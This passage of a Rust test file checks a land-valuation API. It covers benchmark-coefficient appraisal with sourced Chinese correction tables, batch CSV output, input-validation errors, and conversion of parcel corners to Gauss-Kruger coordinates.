/// source. Bad input: 400 naming the field.
#[tokio::test]
async fn appraisal_by_the_benchmark_coefficient_method() {
    let dir = tempfile::tempdir().unwrap();
    let state = state(dir.path()).await;
    let parcel = rect(110.71, 35.11, 110.72, 35.12);
    let ask =
        |appraisal: Value| json!({"parcel": parcel, "use": "住宅", "as_of": "2023-06-01", "appraisal": appraisal});

    // No tables (the server has none configured): the benchmark price alone.
    let (status, body) = post(&state, "/api/land/valuation", ask(json!({"remaining_term_years": 50}))).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let a = &body["appraisal"];
    assert_eq!(a["method"], "benchmark_only", "{a}");
    assert_eq!(a["parts"][0]["unit_price_yuan_per_m2"], 657.0);
    assert_eq!(a["total_value"], body["valuation"]["total_value"]);
    assert!(a["notes"][0].as_str().unwrap().contains("基准地价本身"), "{a}");
    assert!(a["gazette"].as_str().unwrap().contains("未载明"), "{a}");

    // The bureau's tables given inline: every factor with its source.
    let tables = json!({
        "source": "县自然资源局（测试）", "accuracy": "official",
        "benchmark_date": {"value": "2022-01-01", "source": "成果报告 基准日"},
        "benchmark_terms": {"source": "成果报告 年期", "uses": {"住宅": 70}},
        "restoration_rates": {"source": "成果报告 还原率", "uses": {"住宅": 0.06}},
        "price_index": {"source": "地价指数", "value": [{"date": "2022-01-01", "index": 100}, {"date": "2023-01-01", "index": 104}]},
        "plot_ratio": {"source": "容积率表", "uses": {"住宅": [{"ratio": 1.0, "coefficient": 1.1}, {"ratio": 2.0, "coefficient": 1.0}]}},
        "individual_factors": {"source": "个别因素表", "uses": {"住宅": {"交通条件": {"优": 0.03, "劣": -0.03}}}}
    });
    let (status, body) = post(
        &state,
        "/api/land/valuation",
        ask(json!({"remaining_term_years": 50, "plot_ratio": 1.5, "factors": {"交通条件": "优"}, "corrections": tables})),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let p = &body["appraisal"]["parts"][0];
    let sources: Vec<&str> = p["factors"].as_array().unwrap().iter().map(|f| f["source"].as_str().unwrap()).collect();
    assert_eq!(
        sources,
        [
            "n：成果报告 年期；r：成果报告 还原率",
            "基准日：成果报告 基准日；地价指数：地价指数",
            "容积率表",
            "个别因素表"
        ]
    );
    // 657 × 0.961996 × 1.04 × 1.05 × 1.03 = 710.88 元/m²
    let term = (1.0 - 1.06f64.powf(-50.0)) / (1.0 - 1.06f64.powf(-70.0));
    let unit = 657.0 * term * 1.04 * 1.05 * 1.03;
    assert!((p["unit_price_yuan_per_m2"].as_f64().unwrap() - unit).abs() < 0.006, "{p}");

    // The illustrative tables: labelled so.
    let (status, body) =
        post(&state, "/api/land/valuation", ask(json!({"corrections": "illustrative", "plot_ratio": 2.0}))).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert_eq!(body["appraisal"]["tables_accuracy"], "illustrative");
    assert!(body["appraisal"]["notes"].to_string().contains("illustrative"));

    // Batch: query parameters; the report has the appraisal columns.
    let file = json!({"type": "FeatureCollection", "features": [{"type": "Feature", "id": "a", "properties": {}, "geometry": parcel}]});
    let req =
        Request::post("/api/land/valuation/batch?use=住宅&filename=p.geojson&corrections=illustrative&plot_ratio=2")
            .body(Body::from(file.to_string()))
            .unwrap();
    let (status, bytes) = call(&state, req).await;
    let csv = String::from_utf8(bytes).unwrap();
    assert_eq!(status, StatusCode::OK, "{csv}");
    assert!(csv.lines().next().unwrap().ends_with("appraisal_method,appraised_value_yuan,appraisal_factors"), "{csv}");
    assert!(csv.contains("coefficient_correction") && csv.contains("容积率修正=1.0000"), "{csv}");

    for (appraisal, expected) in [
        (json!({"remaining_term_years": 99}), "remaining_term_years"),
        (json!({"plot_ratio": "高"}), "not a valid request"),
        (json!({"factors": {"景观": "优"}, "corrections": "illustrative"}), "景观"),
        (json!({"corrections": "official"}), "appraisal.corrections"),
        (json!({"corrections": {"source": "x"}}), "appraisal.corrections"),
        (json!({"surprise": 1}), "surprise"),
    ] {
        let (status, body) = post(&state, "/api/land/valuation", ask(appraisal.clone())).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{appraisal}: {body}");
        assert!(body.to_string().contains(expected), "{appraisal}: {body}");
    }
}

#[tokio::test]
async fn corners_in_the_gauss_kruger_zone_asked_for() {
    let dir = tempfile::tempdir().unwrap();
    let state = state(dir.path()).await;
    let parcel = rect(110.71, 35.11, 110.72, 35.12);
    let (status, body) =
        post(&state, "/api/land/valuation", json!({"parcel": parcel, "use": "住宅", "corners_crs": "EPSG:4546"})).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let c = &body["corners"];
    assert_eq!(c["crs"], "EPSG:4546");
    let corners = c["corners"].as_array().unwrap();
    let ring = parcel["coordinates"][0].as_array().unwrap();
    assert_eq!(corners.len(), ring.len() - 1, "the closing vertex is left out");
    let zone = landtrace_spatial::Crs::GaussKruger(4546);
    for (i, (corner, vertex)) in corners.iter().zip(ring).enumerate() {
        assert_eq!(corner["name"], format!("J{}", i + 1));
        assert_eq!((corner["lon"].clone(), corner["lat"].clone()), (vertex[0].clone(), vertex[1].clone()));
        let p = zone
            .from_wgs84(
                landtrace_spatial::LonLat::new(vertex[0].as_f64().unwrap(), vertex[1].as_f64().unwrap()).unwrap(),
            )
            .unwrap();
        // x = northing, y = easting (the survey convention); CM 111E is east of the parcel.
        assert_eq!((corner["x"].as_f64().unwrap(), corner["y"].as_f64().unwrap()), (p.y, p.x));
        assert!(p.x < 500_000.0 && p.x > 400_000.0 && p.y > 3_800_000.0, "{p:?}");
    }
    // The same parcel sent in EPSG:4546 gives back its own numbers and the same area.
    let projected: Vec<Value> = corners.iter().map(|c| json!([c["y"], c["x"]])).collect();
    let mut ring = projected.clone();
    ring.push(projected[0].clone());
    let (status, again) = post(
        &state,
        "/api/land/valuation",
        json!({"parcel": {"type": "Polygon", "coordinates": [ring]}, "crs": "EPSG:4546", "use": "住宅", "corners_crs": "EPSG:4546"}),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{again}");
    for (a, b) in again["corners"]["corners"].as_array().unwrap().iter().zip(corners) {
        assert!((a["x"].as_f64().unwrap() - b["x"].as_f64().unwrap()).abs() < 1e-6);
        assert!((a["lon"].as_f64().unwrap() - b["lon"].as_f64().unwrap()).abs() < 1e-9);
    }
    let m2 = |b: &Value| b["valuation"]["parcel_area"]["m2"].as_f64().unwrap();
    assert!((m2(&again) - m2(&body)).abs() < 0.01, "{} vs {}", m2(&again), m2(&body));

    // Without `corners_crs` no table; a geographic or unknown one is a 400 naming the field.
    let (_, plain) = post(&state, "/api/land/valuation", json!({"parcel": parcel, "use": "住宅"})).await;
    assert!(plain.get("corners").is_none());
    for (crs, message) in [("EPSG:4326", "geographic"), ("nonsense", "corners_crs")] {
        let (status, reply) =
            post(&state, "/api/land/valuation", json!({"parcel": parcel, "use": "住宅", "corners_crs": crs})).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{reply}");
        assert!(reply["error"].as_str().unwrap().contains(message), "{crs}: {reply}");
    }
}
